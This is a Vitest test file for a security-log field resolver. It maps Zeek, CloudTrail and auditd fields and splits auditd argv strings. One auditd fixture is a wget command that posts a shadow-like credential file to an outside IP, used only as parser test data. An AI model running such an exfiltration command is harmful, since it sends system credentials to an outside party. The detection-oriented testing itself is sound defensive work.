import { describe, expect, it } from 'vitest';
import { fieldKey, getField, splitArgv } from '../../src/rules/fields.js';
import { testEvent } from '../../src/rules/selftest.js';

describe('getField', () => {
  it('resolves Zeek id.resp_h / id.orig_p to the event endpoints for zeek-conn only', () => {
    const e = testEvent({ format: 'zeek-conn', src: { ip: '172.17.0.3', port: 51514 }, dst: { ip: '203.0.113.7', port: 22 } });
    expect(getField(e, 'id.resp_h')).toBe('203.0.113.7');
    expect(getField(e, 'id.orig_p')).toBe(51514);
    expect(getField({ ...e, format: 'iptables' }, 'id.resp_h')).toBeUndefined();
  });

  it('resolves CloudTrail source names (eventName, userIdentity.type, type, sourceIPAddress)', () => {
    const e = testEvent({ kind: 'audit', format: 'aws-cloudtrail', operation: 'ListBuckets', src: { domain: 's3.amazonaws.com' }, fields: { identityType: 'IAMUser', eventSource: 's3.amazonaws.com' } });
    expect(getField(e, 'eventName')).toBe('ListBuckets');
    expect(getField(e, 'userIdentity.type')).toBe('IAMUser');
    expect(getField(e, 'type')).toBe('IAMUser');
    expect(getField(e, 'eventSource')).toBe('s3.amazonaws.com');
    expect(getField(e, 'sourceIPAddress')).toBe('s3.amazonaws.com');
  });

  it('gives auditd record types as a list and EXECVE arguments as a0..a9', () => {
    const e = testEvent({ kind: 'audit', format: 'auditd', command: 'wget "--post-file=/etc/my shadow" http://203.0.113.9/', fields: { recordTypes: 'SYSCALL,EXECVE,PROCTITLE' } });
    expect(getField(e, 'type')).toEqual(['SYSCALL', 'EXECVE', 'PROCTITLE']);
    expect(getField(e, 'a0')).toBe('wget');
    expect(getField(e, 'a1')).toBe('--post-file=/etc/my shadow');
    expect(getField(e, 'a3')).toBeUndefined();
    // Without an EXECVE record the command is a proctitle, whose words are not argv.
    expect(getField({ ...e, fields: { recordTypes: 'SYSCALL,PROCTITLE' } }, 'a0')).toBeUndefined();
  });

  it('offers vendor synonyms of the action without crossing into another action', () => {
    expect(getField(testEvent({ action: 'deny' }), 'action')).toEqual(expect.arrayContaining(['deny', 'denied', 'blocked']));
    expect(getField(testEvent({ action: 'drop' }), 'action')).not.toContain('deny');
    expect(fieldKey(testEvent({ action: 'deny' }), 'action')).toBe('deny');
  });

  it('keeps bare format fields and event paths working', () => {
    const e = testEvent({ dst: { ip: '1.2.3.4', port: 443 }, fields: { signature: 'ET X' } });
    expect(getField(e, 'signature')).toBe('ET X');
    expect(getField(e, 'fields.signature')).toBe('ET X');
    expect(getField(e, 'dst.port')).toBe(443);
    expect(getField(e, 'DestinationPort')).toBe(443);
    expect(fieldKey(e, 'host')).toBe('');
  });
});

describe('splitArgv', () => {
  it('splitArgv() inverts the auditd parser quoting, escapes included', () => {
    expect(splitArgv('a "b c" "d\\"e" "" f')).toEqual(['a', 'b c', 'd"e', '', 'f']);
  });
});
